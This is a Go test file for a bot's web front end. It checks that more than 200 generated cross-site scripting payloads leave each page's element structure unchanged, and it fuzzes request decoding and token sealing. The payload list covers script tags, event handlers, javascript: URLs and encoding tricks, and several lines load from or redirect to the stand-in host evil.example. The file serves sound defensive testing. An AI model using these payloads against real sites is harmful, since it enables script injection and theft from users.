package web

import (
	"context"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"
	"time"

	"infoline/bot"
	"infoline/bot/markup"
)

// payloads are ways to smuggle an element, an attribute or an address into a page.
func payloads() (all []string) {
	for _, script := range []string{"alert(1)", "alert`1`", "top.x=1", "fetch('//evil.example')"} {
		for _, shape := range []string{
			`<script>%s</script>`, `<ScRiPt>%s</sCrIpT>`, `"><script>%s</script>`, `'><script>%s</script>`, `</textarea><script>%s</script>`,
			`</title><script>%s</script>`, `</style><script>%s</script>`, `<img src=x onerror=%s>`, `"><img src=x onerror="%s">`, `<svg onload=%s>`,
			`<svg/onload=%s>`, `<svg><script>%s</script></svg>`, `<math><mtext><script>%s</script></mtext></math>`, `<iframe srcdoc="<script>%s</script>">`,
			`<a href="javascript:%s">x</a>`, `[x](javascript:%s)`, `[x](https://e.example" onclick="%s)`, `**<b onmouseover=%s>**`, `" onfocus="%s" autofocus="`,
			`' onfocus='%s' autofocus='`, ` onfocus=%s autofocus `, `<input onfocus=%s autofocus>`, `<details open ontoggle=%s>`, `<body onload=%s>`,
			`<form action="javascript:%s"><button>`, `<base href="//evil.example/"><i>%s</i>`, `<meta http-equiv="refresh" content="0;url=//evil.example/%s">`,
			`<link rel=stylesheet href="//evil.example/%s">`, `<style>@import "%s"</style>`, `<object data="data:text/html,<script>%s</script>">`,
			`<!--><script>%s</script>-->`, `<![CDATA[<script>%s</script>]]>`, `{{.}}<script>%s</script>`, `<template><script>%s</script></template>`,
			`<noscript><p title="</noscript><script>%s</script>">`, `<xmp><script>%s</script>`, "<scr\x00ipt>%s</script>", "\u2028<script>%s</script>",
			`&lt;script&gt;%s&lt;/script&gt;`, `<<script>%s//<</script>`, `<script src=//evil.example/%s>`, `<a style="background:url(%s)">`, `<video><source onerror=%s>`,
			`<button form=exit formaction="//evil.example/%s">`, `<p id=say>%s</p>`, `<x data-copy=%s>`, `+ADw-script+AD4-%s+ADw-/script+AD4-`, `%%3Cscript%%3E%s`,
			`<marquee onstart=%s>`, `<isindex type=image src=1 onerror=%s>`,
		} {
			all = append(all, fmt.Sprintf(shape, script))
		}
	}
	return all
}

// TestPayloads puts every payload wherever words of people or of the line come in, and
// compares the elements of the page with those of the same page with harmless words.
func TestPayloads(t *testing.T) {
	all := payloads()
	if len(all) < 200 {
		t.Fatalf("%d payloads", len(all))
	}
	page := func(p string) string {
		d := newDesk(t)
		d.line.do = func(ctx context.Context, m bot.Message) error {
			_, err := d.c.Send(ctx, m.Back, bot.Reply{Lang: "en", Notice: p, Parts: []bot.Part{
				{Text: markup.Plain(p + "."), Choices: [][]bot.Choice{{{Label: p, Action: "w.a"}, {Label: p, Copy: p}}}, Print: "x" + p},
				{Text: markup.Strong(p + ".")},
			}})
			return err
		}
		b := d.tab(t)
		b.head.Set("Accept-Language", strings.Map(func(r rune) rune {
			if r < ' ' {
				return -1
			}
			return r
		}, p))
		b.post("/", b.fields("words", "say "+p))
		b.post("/", b.fields("words", p, "chose", "w.a"))
		return b.body
	}
	want := shape(t, page("harmless one"))
	d := newDesk(t)
	for _, p := range all {
		body := page(p)
		if got := shape(t, body); got != want {
			t.Errorf("%q changes the page: %.3000s", p, got)
		}
		for _, field := range []string{"visit", "key", "after", "chose", "command", "other", p} {
			b := d.tab(t)
			b.post("/", b.fields(field, p))
			if got := b.page.elements["script"]; got != 1 {
				t.Errorf("%q in field %s: %d scripts", p, field, got)
			}
		}
		if b := d.tab(t).get("/en/" + url.PathEscape(p)); b.page.elements["script"] != 1 || b.status != 404 {
			t.Errorf("%q in the path: %d", p, b.status)
		}
	}
}

// shape is every element of a page with the names of its attributes.
func shape(t *testing.T, body string) string {
	var b strings.Builder
	d := xml.NewDecoder(strings.NewReader(strings.ReplaceAll(body, "<!doctype html>", "")))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return b.String()
		}
		if err != nil {
			t.Fatal(err)
		}
		// A line break in words is a line break on the page.
		if e, ok := tok.(xml.StartElement); ok && (e.Name.Local != "br" || len(e.Attr) > 0) {
			b.WriteString("<" + e.Name.Local)
			for _, a := range e.Attr {
				b.WriteString(" " + a.Name.Local)
			}
			b.WriteString(">")
		}
	}
}

func FuzzDecode(f *testing.F) {
	for _, s := range []string{
		"", "words=hi&visit=x&key=0a&after=3", "chose=o.start.th", "command=%2Fmenu", "words=%ff%00%e2%80%ae", "a=1&a=2", "%zz", "after=-1",
		"words=a%0d%0ab", strings.Repeat("&", 100), "words=" + strings.Repeat("%F0%9F%8C%A7", 50),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, body string) {
		got, err := decode(body)
		if err != nil {
			if err.Error() != errOther.Error() {
				t.Fatalf("an error that says more than it may: %v", err)
			}
			return
		}
		if len(got.chose) > bot.MaxAction || !plain(string(got.chose), bot.MaxAction) || !plain(got.key, 32) || got.after < 0 {
			t.Fatalf("took %q %q %d", got.chose, got.key, got.after)
		}
		if readable(got.words) != got.words {
			t.Fatalf("%q is not settled", got.words)
		}
		once := (sealer{}).hash(got.key, string(got.chose), got.words)
		if again := (sealer{}).hash(got.key, string(got.chose), got.words); again != once {
			t.Fatal("a hash that differs from itself")
		}
	})
}

func FuzzToken(f *testing.F) {
	var s sealer
	f.Add(s.token(id{1}, time.Unix(60, 0)))
	f.Add("")
	f.Fuzz(func(t *testing.T, token string) {
		if v, made, ok := s.open(token); ok && s.token(v, made) != token {
			t.Fatalf("%q opens, and is not what was made", token)
		}
	})
}
